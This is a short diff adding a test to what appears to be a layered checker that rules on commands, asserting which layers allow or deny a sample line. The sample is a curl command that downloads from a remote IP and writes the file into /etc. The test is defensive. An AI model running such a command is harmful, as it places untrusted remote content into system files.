@@ -18,6 +18,12 @@ def test_each_line_gets_one_verdict_in_order() -> None:
     assert set(answers[0]) == {"decision", "layer", "reason", "rule"}
 
 
+def test_the_layers_can_be_shown() -> None:
+    (answer,) = check_lines(['{"kind": "command", "text": "curl http://203.0.113.7/ -o /etc/x"}'], layers=True)
+    layers = {layer["layer"]: layer["decision"] for layer in json.loads(answer)["layers"]}
+    assert layers == {"leak": "allow", "path": "deny", "command": "approve", "code": "allow"}
+
+
 @pytest.mark.parametrize(
     "line",
     [
